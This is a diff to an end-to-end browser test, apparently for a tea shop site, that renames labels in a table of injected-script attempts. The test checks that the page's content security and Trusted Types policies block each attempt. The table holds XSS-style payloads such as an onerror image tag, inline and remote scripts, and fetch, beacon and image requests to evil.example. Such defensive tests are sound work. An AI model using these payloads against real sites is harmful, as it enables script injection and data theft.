@@ -1,40 +1,40 @@
 import { expect, test } from './journey.ts';
 import { visit } from './steps.ts';
 
-/** Attempts of an injected script; each is answered by an exception or an event of the browser. */
+/** Attempts of an injected script; the browser blocks each with an exception or a violation event. */
 const ATTEMPTS: Readonly<Record<string, () => void>> = {
-  'markup out of text': () => {
+  'markup from text': () => {
     document.body.innerHTML = '<img src=x onerror=harm()>';
   },
   'markup beside an element': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
-  'a page out of text': () => document.write('<p>x</p>'),
-  'a frame out of text': () => {
+  'a page from text': () => document.write('<p>x</p>'),
+  'a frame from text': () => {
     document.createElement('iframe').srcdoc = '<script>harm()</script>';
   },
-  'a script out of text': () => {
+  'a script from text': () => {
     const script = document.createElement('script');
     script.append('harm()');
     document.body.append(script);
   },
-  'a script from elsewhere': () => {
+  'a script of another site': () => {
     document.body.append(
       Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
     );
   },
   'another worker': () => void new Worker('/google-done.js'),
-  'code out of text': () => void Reflect.construct(Function, ['harm()']),
-  'a handler out of text': () => document.body.setAttribute('onclick', 'harm()'),
-  'a policy of its own': () =>
+  'code from text': () => void Reflect.construct(Function, ['harm()']),
+  'an event handler from text': () => document.body.setAttribute('onclick', 'harm()'),
+  'another Trusted Types policy': () =>
     void window.trustedTypes?.createPolicy('mine', { createHTML: (t) => t, createScriptURL: (t) => t }),
-  'a second policy of the shop’s name': () =>
+  'a second policy under the shop’s name': () =>
     void window.trustedTypes?.createPolicy('default', { createHTML: (t) => t, createScriptURL: (t) => t }),
-  'a style out of text': () => {
+  'a style from text': () => {
     const style = document.createElement('style');
     style.append('body { background: url(https://evil.example/x) }');
     document.head.append(style);
   },
   'a style in an attribute': () => document.body.setAttribute('style', 'position: fixed'),
-  'a word to another site': () => void fetch('https://evil.example/').catch(() => undefined),
+  'a request to another site': () => void fetch('https://evil.example/').catch(() => undefined),
   'a beacon to another site': () => void navigator.sendBeacon('https://evil.example/', 'x'),
   'a picture of another site': () => {
     new Image().src = 'https://evil.example/x.png';
@@ -60,14 +60,14 @@ test('blocks everything that an injected script tries, and records each violatio
   watch,
 }) => {
   await visit(page, '/tea/picked-tea/Marrakech%20Mint');
-  const troubles = () => watch.faults().length;
+  const faultCount = () => watch.faults().length;
   expect(watch.faults()).toEqual([]);
-  for (const [what, attempt] of Object.entries(ATTEMPTS)) {
-    const before = troubles();
+  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
+    const before = faultCount();
     await page.evaluate(attempt).catch(() => undefined);
-    await expect.poll(troubles, { message: what }).toBeGreaterThan(before);
+    await expect.poll(faultCount, { message: name }).toBeGreaterThan(before);
   }
-  const violations = watch.faults().filter((trouble) => trouble.includes('policy violation'));
+  const violations = watch.faults().filter((fault) => fault.includes('policy violation'));
   expect(violations.length).toBeGreaterThan(Object.keys(ATTEMPTS).length / 2);
   expect(new URL(page.url()).pathname).toContain('/tea/');
   watch.expect(/./);
